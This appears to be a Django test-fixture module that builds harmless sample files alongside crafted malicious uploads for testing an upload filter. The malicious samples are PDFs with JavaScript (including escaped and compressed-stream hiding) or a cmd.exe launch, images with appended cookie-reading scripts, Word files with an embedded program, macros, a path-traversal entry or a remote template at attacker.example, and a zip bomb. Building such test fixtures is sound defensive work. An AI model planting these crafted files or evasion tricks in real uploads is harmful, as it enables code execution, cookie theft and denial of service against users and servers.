"""Tiny files for upload tests, built here: good ones of each accepted format, and the crafted bad
ones an attacker sends (a PNG with a web page after it, an office file holding a program, a PDF
with JavaScript, SVG, HTML, a program)."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile

PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
PDF_WITH_JAVASCRIPT = PDF.replace(
    b"/Pages 2 0 R>>", b"/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
)
# The same with the name spelled in #xx escapes, which PDF readers decode.
PDF_WITH_HIDDEN_JAVASCRIPT = PDF.replace(
    b"/Pages 2 0 R>>", b"/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>"
)
PDF_LAUNCHING = PDF.replace(b"/Pages 2 0 R>>", b"/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>")
PDF_WITH_EMBEDDED_FILE = PDF.replace(
    b"/Pages 2 0 R>>", b"/Pages 2 0 R/Names<</EmbeddedFiles 4 0 R>>>>"
)


def pdf_with_javascript_in_object_stream():
    """JavaScript where a plain scan of the bytes cannot see it: in a compressed object stream."""
    hidden = zlib.compress(b"4 0 <</S/JavaScript/JS(app.alert(1))>>")
    stream = (
        b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(hidden)
        + hidden
        + b"\nendstream\nendobj\n"
    )
    return PDF.replace(b"trailer", stream + b"trailer")


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG = (
    b"\x89PNG\r\n\x1a\n"
    + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    + _png_chunk(b"IDAT", zlib.compress(b"\x00\x00"))
    + _png_chunk(b"IEND", b"")
)
PNG_WITH_HTML = PNG + b"<html><script>alert(document.cookie)</script></html>"
PNG_WITH_SCRIPT_INSIDE = (
    PNG[:33] + _png_chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>") + PNG[33:]
)
JPEG = (
    b"\xff\xd8"  # start of image
    + b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"  # APP0
    + b"\xff\xdb\x00\x43\x00"
    + bytes(range(1, 65))  # quantisation table
    + b"\xff\xc0\x00\x0b\x08\x00\x01\x00\x01\x01\x01\x11\x00"  # frame
    + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"  # start of scan
    + b"\x12\x34\xff\x00\x56"  # entropy-coded data, with a stuffed 0xFF
    + b"\xff\xd9"  # end of image
)
JPEG_WITH_HTML = JPEG + b"<html><script>alert(1)</script></html>"
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00\x3b"
)
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(1)</script></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
EXE = b"MZ" + b"\x90\x00" * 64
CSV = b"month,parcels\njan,40\n"

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)


def docx(extra=(), content_types=CONTENT_TYPES):
    """A Word document (the parts Word needs), with ``extra`` (name, bytes) parts packed in."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", b'<?xml version="1.0"?><Relationships/>')
        archive.writestr("word/document.xml", b'<?xml version="1.0"?><w:document/>')
        for name, data in extra:
            archive.writestr(name, data)
    return out.getvalue()


DOCX = docx()
DOCX_WITH_EXE = docx([("word/media/setup.exe", EXE)])
DOCX_WITH_HIDDEN_EXE = docx([("word/media/image1.png", EXE)])
DOCX_WITH_MACROS = docx([("word/vbaProject.bin", b"\x00macros")])
DOCX_WITH_NESTED_ZIP = docx([("word/media/more.zip", docx())])
DOCX_WITH_TRAVERSAL = docx([("../../evil.txt", b"x")])
DOCX_WITH_REMOTE_TEMPLATE = docx(
    [
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
        )
    ]
)


def zip_bomb_docx():
    """A Word document one part of which unpacks to 300 MB (a few hundred KB packed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", b'<?xml version="1.0"?><w:document/>')
        with archive.open("word/media/big.xml", "w", force_zip64=True) as part:
            block = b"\x00" * (1024 * 1024)
            for _ in range(300):
                part.write(block)
    return out.getvalue()


def ods():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", b'<?xml version="1.0"?><office:document-content/>')
        archive.writestr("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest/>')
    return out.getvalue()


def upload(name, data, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


# Each crafted bad file, under the name an attacker gives it, and what the refusal says it is.
BAD_FILES = {
    "png-with-html": ("photo.png", PNG_WITH_HTML, "hidden after its end"),
    "docx-with-exe": ("plan.docx", DOCX_WITH_EXE, "with a program inside it"),
    "pdf-with-javascript": ("paper.pdf", PDF_WITH_JAVASCRIPT, "contains JavaScript"),
    "svg": ("logo.svg", SVG, "is an SVG image"),
    "html": ("page.html", HTML, "is an HTML page"),
    "exe": ("setup.exe", EXE, "is a Windows program"),
}
